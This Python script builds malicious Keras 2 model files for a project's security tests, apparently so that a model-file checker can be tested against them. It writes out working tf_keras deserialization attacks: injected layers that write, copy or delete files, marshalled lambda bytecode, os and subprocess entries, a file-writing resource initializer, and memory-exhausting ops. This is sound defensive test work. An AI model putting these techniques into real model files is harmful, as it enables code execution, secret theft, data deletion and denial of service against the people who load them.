"""Builds the Keras 2 attack files of tests/test_security.py.

Run: python tests/keras2_attacks.py SPEC_JSON

Runs under tf_keras (TF_USE_LEGACY_KERAS=1, set below before TensorFlow is
imported), in a child of pytest: importing tf_keras in the pytest process
would switch it to Keras 2. SPEC_JSON names the folder to write into and the
absolute paths the attacks aim at (markers, a secret, a decoy folder); every
path is baked into the files, so the tests copy a file elsewhere and still
watch the same marker. Prints one JSON line: what was built and notes.

Every attack is a small legitimate model edited afterwards with h5py or the
SavedModel metadata proto, the way an attacker would: tf_keras records a
`TFOpLambda` call with constant arguments as

    {"class_name": "TFOpLambda",
     "config": {"name": ..., "trainable": true, "dtype": "float32", "function": "math.add"},
     "name": ...,
     "inbound_nodes": [["fc", 0, 0, {"y": 1.0}]]}

(one flat list per call: the first call argument, then the other arguments
as kwargs), and a first argument that is not a Keras tensor as
`["_CONSTANT_VALUE", -1, value, kwargs]`; `tf_keras.src.engine.functional.
process_node` then calls `tf.<function>(value, **kwargs)` eagerly while the
model is rebuilt.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from pathlib import Path

os.environ["TF_USE_LEGACY_KERAS"] = "1"
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
sys.dont_write_bytecode = True

import h5py  # noqa: E402
import tensorflow as tf  # noqa: E402
import tf_keras  # noqa: E402
from tf_keras.protobuf import saved_metadata_pb2  # noqa: E402
from tf_keras.src.utils import generic_utils  # noqa: E402

L = tf_keras.layers


def legit() -> tf_keras.Model:
    """A Functional MLP with the three common recorded `tf.*` calls (Keras 2 only)."""
    inp = tf_keras.Input((4,), name="features")
    x = L.Dense(4, activation="relu", name="fc")(inp)
    x = tf.math.add(x, 1.0)  # TFOpLambda "math.add", kwargs {"y": 1.0}
    x = x[:, 1:3]  # SlicingOpLambda "__operators__.getitem", a slice_spec
    x = tf.reshape(x, (-1, 2, 1))  # TFOpLambda "reshape", kwargs {"shape": [-1, 2, 1]}
    x = L.Flatten(name="flat")(x)
    x = L.Dense(4, activation="relu", name="hidden")(x)
    out = L.Dense(1, name="out")(x)
    model = tf_keras.Model(inp, out, name="legit_oplambda")
    model.compile(optimizer="adam", loss="mse")
    return model


def vocab_model(vocabulary: str) -> tf_keras.Model:
    """StringLookup reading its vocabulary from a file path, plus a `tf.cast` (Keras 2 only)."""
    inp = tf_keras.Input((3,), dtype="string", name="tokens")
    x = L.StringLookup(vocabulary=vocabulary, name="lookup")(inp)
    x = tf.cast(x, "float32")
    x = L.Dense(4, activation="relu", name="fc")(x)
    out = L.Dense(1, name="out")(x)
    return tf_keras.Model(inp, out, name="vocab_model")


def text_model() -> tf_keras.Model:
    """A TextVectorization model: its `standardize` and `split` may name a callable."""
    inp = tf_keras.Input((1,), dtype="string", name="text")
    x = L.TextVectorization(
        max_tokens=10, output_sequence_length=4, vocabulary=["a", "b"], name="vec"
    )(inp)
    x = L.Embedding(10, 4, name="emb")(x)
    x = L.Flatten(name="flat")(x)
    x = L.Dense(4, activation="relu", name="fc")(x)
    out = L.Dense(1, name="out")(x)
    return tf_keras.Model(inp, out, name="text_model")


def wrapper_model() -> tf_keras.Model:
    """TimeDistributed and Bidirectional: a config position that holds a whole layer."""
    inp = tf_keras.Input((3, 4), name="seq")
    x = L.TimeDistributed(L.Dense(4, name="td_dense"), name="td")(inp)
    x = L.Bidirectional(L.LSTM(2, name="lstm"), name="bi")(x)
    x = L.Dense(4, activation="relu", name="fc")(x)
    out = L.Dense(1, name="out")(x)
    return tf_keras.Model(inp, out, name="wrapper_model")


# Other places of a layer's config that tf_keras deserializes an object from:
# (file name, layer, key). tf_keras itself fails on most of them (its legacy
# deserializer does not resolve the dotted name, Bidirectional wants an RNN),
# but only after it has looked the name up: the checker refuses them all.
DOTTED_POSITIONS = (
    ("sm_dotted_activation", "fc", "activation"),
    ("sm_dotted_initializer", "fc", "kernel_initializer"),
    ("sm_dotted_regularizer", "fc", "kernel_regularizer"),
    ("sm_dotted_constraint", "fc", "kernel_constraint"),
    ("sm_dotted_timedistributed", "td", "layer"),
    ("sm_dotted_bidirectional", "bi", "layer"),
)


def dotted_lambda(marker: Path) -> dict:
    """TensorFlow's embedded old Keras `Lambda`, named by a dotted class name.

    tf_keras' deserializer imports `module` and resolves `core.Lambda` as the
    attribute `Lambda` of `module.core` (its `__qualname__` support), so the
    old Keras `Lambda` is built; its `from_config` unmarshals the bytecode,
    which runs when the layer is called (here: as TextVectorization's
    `standardize` or `split`, while the model is rebuilt).
    """
    function = eval(f"lambda x, *args, **kwargs: (open({str(marker)!r}, 'w').write('pwned'), x)[1]")
    code = generic_utils.func_dump(function)[0]
    return {
        "module": "tensorflow.python.keras.layers",
        "class_name": "core.Lambda",
        "config": {
            "name": "dotted",
            "trainable": True,
            "dtype": "float32",
            "function": [code, None, None],
            "function_type": "lambda",
            "module": "builtins",
            "output_shape": None,
            "output_shape_type": "raw",
            "output_shape_module": None,
            "arguments": {},
        },
    }


def set_in_layer(layer: str, key: str, value):
    """An edit: `key` of layer `layer`'s config set to `value`, wherever the layer appears."""

    def edit(config):
        stack, found = [config], 0
        while stack:
            item = stack.pop()
            if isinstance(item, dict):
                if item.get("name") == layer and key in item:
                    item[key] = value
                    found += 1
                stack.extend(item.values())
            elif isinstance(item, list):
                stack.extend(item)
        if not found:
            raise SystemExit(f"no {key!r} in layer {layer!r}")

    return edit


def op_layer(name: str, function: str, inbound: list) -> dict:
    return {
        "class_name": "TFOpLambda",
        "config": {"name": name, "trainable": True, "dtype": "float32", "function": function},
        "name": name,
        "inbound_nodes": inbound,
    }


def constant_call(first, **kwargs) -> list:
    """One call with a constant first argument, as tf_keras writes it."""
    return [["_CONSTANT_VALUE", -1, first, {"name": None, **kwargs}]]


def edit_h5_config(path: Path, edit, *, replace: tuple[str, str] = ("", "")) -> None:
    with h5py.File(path, "r+") as f:
        config = json.loads(f.attrs["model_config"])
        edit(config)
        # `replace` puts in text that json.dumps cannot write (nesting deeper than the
        # recursion limit).
        f.attrs["model_config"] = json.dumps(config).replace(*replace)


def edit_savedmodel_nodes(folder: Path, edit) -> None:
    """Passes every node's metadata in `keras_metadata.pb` (a dict) through `edit`."""
    meta = saved_metadata_pb2.SavedMetadata()
    meta.ParseFromString((folder / "keras_metadata.pb").read_bytes())
    for node in meta.nodes:
        data = json.loads(node.metadata)
        try:
            edit(data)
        except SystemExit:  # the layer is not in this node
            continue
        node.metadata = json.dumps(data)
    (folder / "keras_metadata.pb").write_bytes(meta.SerializeToString())


def edit_savedmodel_config(folder: Path, edit) -> None:
    """Edits the Functional config of the root object in `keras_metadata.pb`."""
    meta = saved_metadata_pb2.SavedMetadata()
    meta.ParseFromString((folder / "keras_metadata.pb").read_bytes())
    for node in meta.nodes:
        if node.node_path == "root":
            data = json.loads(node.metadata)
            edit(data["config"])
            node.metadata = json.dumps(data)
            break
    else:
        raise SystemExit("no root node in keras_metadata.pb")
    (folder / "keras_metadata.pb").write_bytes(meta.SerializeToString())


def append(*layers):
    def edit(config):
        # An `.h5` holds {"class_name": "Functional", "config": {...}}; the
        # SavedModel root metadata's "config" is the inner dict itself.
        config.get("config", config)["layers"].extend(layers)

    return edit


class MarkerResource(tf.saved_model.experimental.TrackableResource):
    """A resource whose initializer, traced into the SavedModel, writes a file."""

    def __init__(self, marker: str):
        super().__init__()
        self._marker = marker

    def _create_resource(self):
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="")

    def _initialize(self):
        tf.io.write_file(self._marker, "pwned by a SavedModel resource initializer")
        return tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=1.0)


def main() -> None:
    spec = json.loads(sys.argv[1])
    out, markers = Path(spec["out"]), Path(spec["markers"])
    out.mkdir(parents=True, exist_ok=True)
    tf_keras.utils.set_random_seed(0)

    base = out / "legit_oplambda.h5"
    legit().save(base)

    def variant(name: str, edit, **kwargs) -> None:
        shutil.copyfile(base, out / name)
        edit_h5_config(out / name, edit, **kwargs)

    variant(
        "tfop_write.h5",
        append(
            op_layer(
                "evil",
                "io.write_file",
                constant_call(str(markers / "tfop_write"), contents="pwned"),
            )
        ),
    )
    variant(
        "tfop_copy.h5",
        append(
            op_layer(
                "evil_copy",
                "io.gfile.copy",
                constant_call(spec["secret"], dst=str(markers / "tfop_copy"), overwrite=True),
            )
        ),
    )
    variant(
        "tfop_rmtree.h5",
        append(op_layer("evil_rmtree", "io.gfile.rmtree", constant_call(spec["decoy"]))),
    )
    # An allowed op whose constant argument is a string, not a number.
    variant(
        "tfop_string_const.h5",
        append(
            op_layer("add_text", "math.add", [["fc", 0, 0, {"y": "../../secret", "name": None}]])
        ),
    )

    # A config nested deeper than Python's recursion limit, in a Keras 2 file.
    def deep(config):
        for layer in config["config"]["layers"]:
            if layer["name"] == "hidden":
                layer["config"]["deep"] = "DEEP"

    variant("deep_config.h5", deep, replace=('"DEEP"', "[" * 5000 + "1.0" + "]" * 5000))

    # The same write in a SavedModel's keras_metadata.pb.
    legit().save(out / "sm_legit", save_format="tf")
    shutil.copytree(out / "sm_legit", out / "sm_tfop")
    edit_savedmodel_config(
        out / "sm_tfop",
        append(
            op_layer(
                "evil", "io.write_file", constant_call(str(markers / "sm_tfop"), contents="pwned")
            )
        ),
    )

    # A SavedModel tracking a resource whose initializer writes a file.
    model = legit()
    model.marker_resource = MarkerResource(str(markers / "sm_resource"))
    model.save(out / "sm_resource", save_format="tf")
    stray = markers / "sm_resource"
    built_marker = stray.exists()  # saving traces, but must not run, the initializer
    stray.unlink(missing_ok=True)

    # StringLookup reading a local file as its vocabulary.
    vocab_model(spec["vocab"]).save(out / "vocab_file.h5")

    # TensorFlow's old Keras `Lambda` under a dotted class name, nested in a
    # layer's config: the SavedModel's metadata, then an `.h5`.
    text_model().save(out / "sm_text", save_format="tf")
    for name, key in (("sm_dotted_lambda", "standardize"), ("sm_dotted_split", "split")):
        shutil.copytree(out / "sm_text", out / name)
        edit_savedmodel_nodes(out / name, set_in_layer("vec", key, dotted_lambda(markers / name)))
    shutil.rmtree(out / "sm_text")
    wrapper_model().save(out / "sm_wrapper", save_format="tf")
    for name, layer, key in DOTTED_POSITIONS:
        shutil.copytree(out / "sm_wrapper", out / name)
        edit_savedmodel_nodes(out / name, set_in_layer(layer, key, dotted_lambda(markers / name)))
    shutil.rmtree(out / "sm_wrapper")
    text_model().save(out / "dotted_lambda.h5")
    edit_h5_config(
        out / "dotted_lambda.h5",
        set_in_layer("vec", "standardize", dotted_lambda(markers / "dotted_lambda_h5")),
    )
    # A `module` tf_keras would import: the standard library.
    for name, entry in (
        ("module_os.h5", {"module": "os", "class_name": "system", "config": {}}),
        (
            "module_subprocess.h5",
            {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}},
        ),
    ):
        variant(name, set_in_layer("hidden", "kernel_initializer", entry))

    # Allowed pure ops on a huge constant shape: 24000 x 24000 float32 = 2.3 GB
    # allocated eagerly while the model is rebuilt.
    big = [24_000, 24_000]
    variant("tfop_fill.h5", append(op_layer("big", "fill", constant_call(big, value=1.0))))
    variant("tfop_ones.h5", append(op_layer("big", "ones", constant_call(big))))
    variant("tfop_zeros.h5", append(op_layer("big", "zeros", constant_call(big))))
    # Other allowed ops whose constant arguments ask for as much, in ways a
    # product of the shape's numbers does not see: one side given (`eye`), a
    # zero among the numbers (`pad`, `one_hot`), a float limit (`range`), an op
    # of an allowed namespace (`math.`, `linalg.`).
    side, count = 24_000, 575_000_000
    for name, function, first, kwargs in (
        ("tfop_eye.h5", "eye", side, {}),
        ("tfop_linalg_eye.h5", "linalg.eye", side, {}),
        ("tfop_pad.h5", "pad", [[1.0]], {"paddings": [[0, side - 1], [0, side - 1]]}),
        ("tfop_one_hot.h5", "one_hot", [0] * side, {"depth": side}),
        ("tfop_range.h5", "range", float(count), {}),
        ("tfop_bincount.h5", "math.bincount", [count], {}),
        (
            "tfop_segment_sum.h5",
            "math.unsorted_segment_sum",
            [1.0],
            {"segment_ids": [0], "num_segments": count},
        ),
    ):
        variant(name, append(op_layer("big", function, constant_call(first, **kwargs))))

    notes = {"resource_marker_at_save": built_marker}
    files = sorted(p.name for p in out.iterdir())
    print(json.dumps({"files": files, "notes": notes}))


if __name__ == "__main__":
    main()
